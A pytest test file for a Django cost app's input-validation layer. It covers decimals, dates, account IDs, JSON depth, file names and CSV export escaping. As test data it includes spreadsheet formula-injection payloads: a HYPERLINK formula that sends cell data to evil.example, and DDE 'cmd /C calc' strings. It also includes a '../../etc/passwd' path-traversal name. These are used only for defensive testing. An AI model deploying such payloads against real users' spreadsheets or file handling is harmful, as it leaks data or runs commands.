"""The shared input layer: each refusal names the field and the value."""

from __future__ import annotations

import json
import sys
import time
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from analytics.errors import InvalidInput
from costapp.capacity.forms import (
    DEFAULT_LAYOUTS,
    CalibrationUploadForm,
    _parse_layouts,
)
from costapp.csv_export import csv_cell, csv_text
from costapp.validation import (
    account_id_in,
    date_in,
    datetime_in,
    decimal_in,
    filename_in,
    flat_object_in,
    float_in,
    int_in,
    json_in,
    text_in,
)
from tests.support.users import user_in

pytestmark = pytest.mark.smoke
# Full-width digits: str.isdigit() is true for them.
FULL_WIDTH = "".join(chr(0xFF10 + int(c)) for c in "111122223333")


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("1e309", "too large"),
        (float("inf"), "not a finite number"),
        ("NaN", "not a finite number"),
        ("-Infinity", "not a finite number"),
        ("1e30", "too large"),
        (Decimal(10) ** 16, "too large"),
        ("0.0000000000001", "more than 12 decimal places"),
        ("abc", "not a decimal number"),
        ("1" * 100, "longer than 64 characters"),
        (True, "not a number"),
    ],
)
def test_a_number_the_money_column_cannot_hold_is_refused_naming_field_and_value(
    value: object, reason: str
) -> None:
    with pytest.raises(InvalidInput) as caught:
        decimal_in(value, field="BilledCost")
    message = str(caught.value)
    assert message.startswith("BilledCost=")
    assert reason in message
    assert repr(value)[:20] in message or str(value)[:20] in message


def test_trailing_zeros_do_not_count_as_decimal_places() -> None:
    assert decimal_in("1.500000000000000", field="x") == Decimal("1.5")
    assert decimal_in("-9999999999999999.5", field="x", limit=Decimal(10) ** 17)
    assert decimal_in(1320.9612345678, field="x") == Decimal("1320.9612345678")
    assert decimal_in("0E-20", field="x") == 0


def test_places_beyond_the_contexts_28_digits_are_counted() -> None:
    """30 digits, 14 of them places: normalize() would round it to 12 places."""
    with pytest.raises(InvalidInput, match="more than 12 decimal places"):
        decimal_in("-1178250233366273.56919721361408", field="x")


@given(
    st.one_of(
        st.decimals(min_value=-(10**17), max_value=10**17, places=14),
        st.decimals(min_value=-(10**17), max_value=10**17, places=3),
        st.decimals(allow_nan=True, allow_infinity=True),
    )
)
def test_every_accepted_decimal_fits_decimal_28_12(value: Decimal) -> None:
    try:
        clean = decimal_in(value, field="x")
    except InvalidInput:
        return
    assert clean.is_finite() and abs(clean) < Decimal(10) ** 16
    # quantize to the column's scale loses nothing and needs <= 28 digits
    quantized = clean.quantize(Decimal("1e-12"))
    assert quantized == clean
    assert len(quantized.as_tuple().digits) <= 28


def test_a_refusal_cuts_the_value_to_80_characters() -> None:
    with pytest.raises(InvalidInput) as caught:
        text_in("x" * 10_000, field="name", max_length=200)
    message = str(caught.value)
    assert message.startswith("name='xxx")
    assert len(message.split(": ", 1)[0]) <= len("name=") + 80
    assert "10000 characters long; at most 200" in message
    assert caught.value.field == "name" and caught.value.value == "x" * 10_000


def test_nul_bytes_are_refused_in_any_text() -> None:
    with pytest.raises(InvalidInput, match=r"account_id='1234\\x005678.*NUL"):
        account_id_in("1234\x005678")
    with pytest.raises(InvalidInput, match="NUL byte"):
        text_in("ok\x00", field="tag_key")
    with pytest.raises(InvalidInput, match="NUL byte"):
        json_in('{"a": "b\x00"}', field="file")


def test_account_ids_are_twelve_ascii_digits_and_full_width_ones_are_refused() -> None:
    assert account_id_in(" 111122223333 ") == "111122223333"
    full_width = FULL_WIDTH
    assert full_width.isdigit()  # what the old check relied on
    with pytest.raises(InvalidInput, match="account_ids='" + FULL_WIDTH[:3]):
        account_id_in(full_width, field="account_ids")
    for bad in ("11112222333", "1111222233334", "11112222333a", ""):
        with pytest.raises(InvalidInput, match="12-digit"):
            account_id_in(bad)


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("0001-01-01", "outside the supported range 2000-01-01..2100-12-31"),
        ("9999-12-31", "outside the supported range"),
        ("2026-13-45", "not a date"),
        ("x" * 1000, "not a date"),
        # fromisoformat takes these; YYYY-MM-DD does not.
        ("20261101", "not a date"),
        ("2026-W48-1", "not a date"),
        ("\uff12\uff10\uff12\uff16-11-01", "not a date"),
    ],
)
def test_dates_outside_the_supported_range_are_refused(value: str, reason: str) -> None:
    with pytest.raises(InvalidInput, match=reason) as caught:
        date_in(value, field="end")
    assert str(caught.value).startswith(f"end={value[:10]!r}"[:14])


def test_datetimes_are_utc_and_bounded() -> None:
    assert datetime_in("2025-01-02T03:00:00Z", field="t") == datetime(
        2025, 1, 2, 3, tzinfo=UTC
    )
    assert datetime_in("2025-01-02 03:00:00", field="t").tzinfo == UTC
    for bad in ("9999-12-31T23:00:00-05:00", "9999-12-31T00:00:00Z", "0001-01-01"):
        with pytest.raises(InvalidInput, match=r"ChargePeriodStart=.*outside"):
            datetime_in(bad, field="ChargePeriodStart")
    assert date_in(datetime(2030, 5, 1, tzinfo=UTC), field="d") == date(2030, 5, 1)


def test_json_deeper_than_20_or_with_a_5000_digit_integer_is_refused() -> None:
    assert json_in("[" * 20 + "]" * 20, field="file") == json.loads("[" * 20 + "]" * 20)
    with pytest.raises(InvalidInput, match="nested 21 levels deep; at most 20"):
        json_in("[" * 21 + "]" * 21, field="file")
    # a million levels: refused before the parser recurses
    with pytest.raises(InvalidInput, match="nested 1000000 levels"):
        json_in("[" * 1_000_000, field="file")
    # brackets inside strings are text, not depth
    assert json_in('{"a": "[[[[[[[[[[[[[[[[[[[[[[[[[["}', field="f") == {"a": "[" * 26}
    limit = sys.get_int_max_str_digits()
    with pytest.raises(InvalidInput, match=f"integer of 5000 digits; at most {limit}"):
        json_in('{"n": ' + "9" * 5000 + "}", field="file")
    with pytest.raises(InvalidInput, match="not a finite number"):
        json_in('{"n": NaN}', field="file")
    with pytest.raises(InvalidInput, match="not a finite number"):
        json_in('{"n": 1e309}', field="file")
    with pytest.raises(InvalidInput, match=r"file=.*is not JSON"):
        json_in("{nope", field="file")
    with pytest.raises(InvalidInput, match="not UTF-8"):
        json_in(b"\xff\xfe\x00", field="file")


def test_tags_must_be_a_flat_object_of_primitives() -> None:
    assert flat_object_in(
        '{"team": "chat", "n": 3, "on": true, "x": null}', field="Tags"
    )
    for bad, reason in (
        ('{"team": {"name": "chat"}}', "holds a nested value"),
        ('{"team": ["a"]}', "holds a nested value"),
        ('["team"]', "not a JSON object"),
        ('"team"', "not a JSON object"),
    ):
        with pytest.raises(InvalidInput, match=reason) as caught:
            flat_object_in(bad, field="Tags")
        assert str(caught.value).startswith("Tags=")


def test_integers_floats_and_file_names_are_bounded() -> None:
    assert int_in("12", field="n", minimum=1, maximum=64) == 12
    with pytest.raises(InvalidInput, match="n='10\\^12'"):
        int_in("10^12", field="n", minimum=1, maximum=64)
    with pytest.raises(InvalidInput, match="not between 1 and 64"):
        int_in(1_000_000, field="n", minimum=1, maximum=64)
    with pytest.raises(InvalidInput, match="not an integer"):
        int_in("9" * 5000, field="n", minimum=1, maximum=64)
    with pytest.raises(InvalidInput, match="not a finite number"):
        float_in("1e309", field="x")
    with pytest.raises(InvalidInput, match="300 characters long; at most 200"):
        filename_in("a" * 296 + ".csv")
    with pytest.raises(InvalidInput, match="not a plain file name"):
        filename_in("../../etc/passwd.csv")


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-A1",
        "\tcmd",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value: str) -> None:
    assert csv_cell(value) == "'" + value
    text = csv_text(["name"], [[value]])
    assert text.splitlines()[1].lstrip('"').startswith("'")


def test_numbers_stay_numbers_in_the_csv() -> None:
    assert csv_cell("-1.5") == "-1.5"
    assert csv_cell("+3") == "+3"
    assert csv_cell(Decimal("-0.000000000001")) == "-0.000000000001"
    assert csv_cell(Decimal("1E+3")) == "1000"
    assert csv_cell(-1.5) == "-1.5"
    assert csv_cell(-2) == "-2"
    assert csv_cell(None) == ""
    assert csv_cell(True) == "True"
    assert csv_text(["a", "b"], [[Decimal("-1.5"), "x"]]) == "a,b\r\n-1.5,x\r\n"


# -- capacity inputs bounded through the shared layer --------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("layouts", "words"),
    [
        ("1000000x1g", "layouts='1000000x1g': 1000000 instances"),
        ("10^12x1g", "layouts='10^12x1g': not a MIG profile"),
        ("9" * 5000 + "x1g", "a GPU holds at most 7"),
        ("4g+4g+1g+1g+1g+1g+1g+1g", "8 instances; a GPU holds at most 7"),
    ],
)
def test_a_mig_layout_no_gpu_can_hold_is_refused_quickly(
    client: object, layouts: str, words: str
) -> None:
    assert isinstance(client, Client)
    client.force_login(user_in("lead", "tech lead"))
    # The page's first render in a process (templates, catalog) is not what
    # is timed: under a loaded CI machine it alone came near the limit.
    client.get("/capacity/mig/", {"gpu": "H100-SXM", "layouts": "7x1g"})
    started = time.perf_counter()
    page = client.get("/capacity/mig/", {"gpu": "H100-SXM", "layouts": layouts})
    assert time.perf_counter() - started < 2
    assert page.status_code == 200
    text = page.content.decode()
    assert words.replace("'", "&#x27;") in text, text[-2000:]


def test_the_default_mig_layouts_still_parse() -> None:
    assert _parse_layouts(DEFAULT_LAYOUTS)[-2] == [("1g", None)] * 7


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"[" * 5000 + b"]" * 5000, "nested 5000 levels deep; at most 20"),
        (b'{"a": ' + b"9" * 5000 + b"}", "integer of 5000 digits"),
        (b'{"a": NaN}', "not a finite number"),
    ],
)
def test_a_calibration_file_too_deep_or_with_a_huge_integer_is_refused(
    content: bytes, words: str
) -> None:
    form = CalibrationUploadForm({}, {"file": SimpleUploadedFile("cal.json", content)})
    assert not form.is_valid()
    message = " ".join(form.errors["file"])
    assert "file 'cal.json'=" in message and words in message
